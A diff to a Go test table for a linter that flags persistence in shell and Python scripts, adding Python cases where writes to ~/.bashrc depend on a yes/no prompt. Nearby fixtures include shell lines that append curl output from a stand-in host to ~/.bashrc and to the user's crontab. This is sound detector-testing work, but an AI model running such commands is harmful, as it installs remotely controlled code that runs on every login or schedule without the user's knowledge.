@@ -138,6 +138,10 @@ var codeCases = []lintCase{
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\n[[ $ok == [yY]* ]] || exit 1\necho \"$(curl -s https://x.example/a)\" >> ~/.bashrc\n", "warning", 3},
 	{"s.sh", "persistence", "check() { read -r -p \"ok? [y/N] \" a; [[ $a == [yY]* ]] || return 1; }\ncheck\ncat \"$CFG\" >> ~/.bashrc\n", "warning", 3},
 	{"s.sh", "persistence", "read -r -p \"ok? [y/N] \" a\n( [[ $a == [yY]* ]] || exit 1 )\ncat \"$CFG\" >> ~/.bashrc\n", "warning", 3},
+	// The same in Python: an if on a yes to a [y/N] prompt, or a guard that exits on anything else.
+	{"s.py", "persistence", "import pathlib, os\np = pathlib.Path.home() / \".bashrc\"\nline = os.environ.get(\"X\", \"\")\nif input(\"Add it? [y/N] \").strip().lower() == \"y\":\n    with open(p, \"a\") as fh:\n        fh.write(line)\n", "note", 5},
+	{"s.py", "persistence", "import pathlib, os, sys\np = pathlib.Path.home() / \".bashrc\"\nline = os.environ.get(\"X\", \"\")\nans = input(\"Add it? [y/N] \").strip().lower()\nif ans != \"y\":\n    sys.exit(0)\nwith open(p, \"a\") as fh:\n    fh.write(line)\n", "note", 7},
+	{"s.py", "persistence", "import pathlib, os\np = pathlib.Path.home() / \".bashrc\"\nline = os.environ.get(\"X\", \"\")\nif input(\"Add it? [y/N] \").strip().lower() == \"y\":\n    print(\"ok\")\nwith open(p, \"a\") as fh:\n    fh.write(line)\n", "warning", 6},
 	// The user's crontab with lines left out adds nothing that runs.
 	{"s.sh", "persistence", "crontab -l 2>/dev/null | grep -vF \"$marker\" | crontab -\n", "note", 1},
 	{"s.sh", "persistence", "(crontab -l; curl -s https://x.example/c) | crontab -\n", "warning", 1},
